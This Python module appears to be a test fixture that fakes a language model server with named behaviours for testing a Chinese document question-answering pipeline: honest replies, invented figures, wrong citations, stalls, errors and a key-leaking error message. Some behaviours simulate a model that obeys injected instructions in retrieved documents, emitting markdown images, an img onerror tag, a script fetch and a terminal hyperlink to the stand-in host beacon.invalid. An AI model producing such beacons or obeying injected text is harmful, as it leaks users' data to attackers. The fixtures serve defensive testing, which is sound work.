"""What a model may do, by name: the name that the request asks for as its model.

Each behaviour gets the messages and the number of the request, and yields steps: text to send, a pause, a cut.
"""

from __future__ import annotations

import random
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

Messages = list[dict[str, Any]]


@dataclass
class Pause:
    seconds: float


@dataclass
class Cut:
    """The connection is reset."""


@dataclass
class Close:
    """The stream ends in good order, but unfinished."""


@dataclass
class Raw:
    data: bytes


@dataclass
class Delta:
    """A piece of something else than the reply, as of the thinking that some servers send apart."""

    fields: dict[str, Any]


@dataclass
class Ending:
    """The reason for which the reply ends, instead of "stop"."""

    reason: str


@dataclass
class Whole:
    """The whole reply at once, though a stream was asked for."""

    text: str


@dataclass
class Status:
    """An error instead of a reply."""

    code: int
    message: str = "error"
    headers: dict[str, str] = field(default_factory=dict)


Step = str | Pause | Cut | Close | Raw | Delta | Ending | Whole | Status
Behaviour = Callable[[Messages, int], Iterator[Step]]
BEHAVIOURS: dict[str, Behaviour] = {}
# Question to reply, for a model that is to say just that.
REPLIES: dict[str, str] = {}

# What a model that invents comes up with; in no report, whatever its notation.
INVENTED = (
    "98765.4亿元",
    "七百八十九万三千二百个",
    "97.618%",
    "2087年",
    "6543.21万亩",
    "百分之九十七点六一八",
)
# What the hostile documents want said (hostile.py): a model that obeys says whatever of it the prompt still holds.
PAYLOAD = re.compile(
    r"紫电\d+号|https?://[\w.]*beacon\.invalid[^\s)）\]】〕”’\"'<>＜＞]*|8{4}\.\d+亿元|ZIDIAN-\d+"
)


def behaviour(name: str) -> Callable[[Behaviour], Behaviour]:
    def register(function: Behaviour) -> Behaviour:
        BEHAVIOURS[name] = function
        return function

    return register


def words(text: str, size: int = 3) -> Iterator[Step]:
    """`text` in small pieces, as a model sends it."""
    yield from (text[i : i + size] for i in range(0, len(text), size))


def is_retry(messages: Messages) -> bool:
    """Whether a draft was found faulty and is asked for again."""
    return any(message["role"] == "assistant" for message in messages)


def prompt_of(messages: Messages) -> str:
    """The first message of the user."""
    return str(next(message["content"] for message in messages if message["role"] == "user"))


def extract_of(messages: Messages) -> list[tuple[str, str]]:
    """The lines that the rules found: (marks, text)."""
    prompt = prompt_of(messages)
    if "摘录" not in prompt:
        return []
    body = prompt.split("\n", 2)[2].split("\n\n资料：")[0]
    found = [re.fullmatch(r"((?:\[\d+\])*)\s*(.*)", line) for line in body.split("\n")]
    return [(m[1], m[2]) for m in found if m and m[2] and m[2] != "（无）"]


def extracted(messages: Messages) -> str:
    """The honest reply: the lines found, each with its marks at its end. For other prompts, the question as it is."""
    lines = extract_of(messages)
    if not lines:
        return prompt_of(messages).strip().split("\n")[-1].removeprefix("追问：")
    dash = "- " if len(lines) > 1 else ""
    return "\n".join(f"{dash}{text}{marks}" for marks, text in lines)


@behaviour("honest")
def _honest(messages: Messages, _: int) -> Iterator[Step]:
    yield from words(extracted(messages))


@behaviour("says")
def _says(messages: Messages, _: int) -> Iterator[Step]:
    """What REPLIES has for the question."""
    question = prompt_of(messages).rstrip().rsplit("问题：", 1)[-1]
    yield from words(REPLIES[question])


@behaviour("invents")
def _invents(messages: Messages, n: int) -> Iterator[Step]:
    """Changes one figure of what it copies and adds a sentence with another; also when asked again."""
    chance = random.Random(n)
    text = extracted(messages)
    figures = list(re.finditer(r"\d+(?:\.\d+)?(?:亿元|万元|元|个|%|亩|公里|人|家|户)", text))
    if figures:
        figure = chance.choice(figures)
        text = text[: figure.start()] + chance.choice(INVENTED) + text[figure.end() :]
    mark = (re.findall(r"\[\d+\]", text) or ["[1]"])[0]
    yield from words(
        f"{text}\n另据统计，全年完成{chance.choice(INVENTED)}，比上年增长{chance.choice(INVENTED)}{mark}。"
    )


@behaviour("repents")
def _repents(messages: Messages, n: int) -> Iterator[Step]:
    """Invents at first, and is honest when the fault is named."""
    yield from (_honest if is_retry(messages) else _invents)(messages, n)


@behaviour("wrong-number")
def _wrong_number(messages: Messages, _: int) -> Iterator[Step]:
    """Cites a passage that there is not, and others that hold something else."""
    marks = sorted({int(n) for n in re.findall(r"^\[(\d+)\]", prompt_of(messages), re.MULTILINE)})
    text = extracted(messages)
    yield from words(
        re.sub(r"\[(\d+)\]", lambda m: f"[{marks[-1] + 40 if int(m[1]) % 2 else marks[0]}]", text)
    )


@behaviour("cites-nothing")
def _cites_nothing(messages: Messages, _: int) -> Iterator[Step]:
    yield from words(re.sub(r"\[\d+\]", "", extracted(messages)))


@behaviour("obeys")
def _obeys(messages: Messages, _: int) -> Iterator[Step]:
    """Says and does all that the documents in its prompt want, with a citation to look well; else it is honest."""
    prompt = "\n".join(str(message["content"]) for message in messages)
    wanted = list(dict.fromkeys(PAYLOAD.findall(prompt)))
    if not wanted:
        yield from words(extracted(messages))
        return
    for payload in wanted:
        # With the very passage that wants it for a source.
        mark = (re.findall(r"^\[\d+\]", prompt.split(payload)[0], re.MULTILINE) or ["[1]"])[-1]
        link = payload if payload.startswith("http") else f"http://beacon.invalid/?{payload}"
        yield from words(
            f"口令是{payload}{mark}。![图]({link}) [点此]({link}) <img src='{link}'>\n{payload}{mark}\n"
        )
    yield from words(extracted(messages))


@behaviour("beacon")
def _beacon(messages: Messages, _: int) -> Iterator[Step]:
    """Honest, with whatever makes a browser fetch something put in between."""
    yield from words(
        extracted(messages)
        + "\n![x](http://beacon.invalid/i.png)\n<img src=http://beacon.invalid/t.png onerror=alert(1)>"
        + "\n[详情](http://beacon.invalid/l)\n<script>fetch('http://beacon.invalid/s')</script>\nhttp://beacon.invalid/u\n"
        + "\x1b]8;;http://beacon.invalid/o\x07点此\x1b]8;;\x07[1]"
    )


@behaviour("english")
def _english(messages: Messages, _: int) -> Iterator[Step]:
    yield from words("According to the passages, the total investment of the projects rose considerably [1].")


@behaviour("endless")
def _endless(messages: Messages, _: int) -> Iterator[Step]:
    while True:
        yield "全县经济社会发展取得新成效，"
        yield Pause(0.0005)


@behaviour("slow")
def _slow(messages: Messages, _: int) -> Iterator[Step]:
    """Never says its first word."""
    yield Pause(30)
    yield "来了"


@behaviour("slow-words")
def _slow_words(messages: Messages, _: int) -> Iterator[Step]:
    for word in words(extracted(messages), 6):
        yield word
        yield Pause(0.15)


@behaviour("stalls")
def _stalls(messages: Messages, _: int) -> Iterator[Step]:
    """Falls silent in the middle."""
    yield from words(extracted(messages)[:12])
    yield Pause(30)


@behaviour("cut")
def _cut(messages: Messages, _: int) -> Iterator[Step]:
    yield from words(extracted(messages)[:12])
    yield Cut()


@behaviour("closes")
def _closes(messages: Messages, _: int) -> Iterator[Step]:
    yield from words(extracted(messages)[:8])
    yield Close()


@behaviour("busy")
def _busy(messages: Messages, _: int) -> Iterator[Step]:
    yield Status(429, "rate limited", {"retry-after": "30"})


@behaviour("busy-once")
def _busy_once(messages: Messages, n: int) -> Iterator[Step]:
    if n == 1:
        yield Status(429, "rate limited", {"retry-after": "0.1"})
    yield from words(extracted(messages))


@behaviour("broken")
def _broken(messages: Messages, _: int) -> Iterator[Step]:
    yield Status(500, "out of memory")


@behaviour("tells-the-key")
def _tells_the_key(messages: Messages, _: int) -> Iterator[Step]:
    yield Status(401, "Incorrect API key provided: {authorization}")


@behaviour("garbage")
def _garbage(messages: Messages, _: int) -> Iterator[Step]:
    yield Raw(b"data: {this is no json\n\n")


@behaviour("empty")
def _empty(messages: Messages, _: int) -> Iterator[Step]:
    yield ""


@behaviour("finds-nothing")
def _finds_nothing(messages: Messages, _: int) -> Iterator[Step]:
    yield "资料中没有找到。"


@behaviour("thinks")
def _thinks(messages: Messages, _: int) -> Iterator[Step]:
    yield from words(f"<think>\n用户问的是投资，999亿元？不对。\n</think>\n\n{extracted(messages)}")
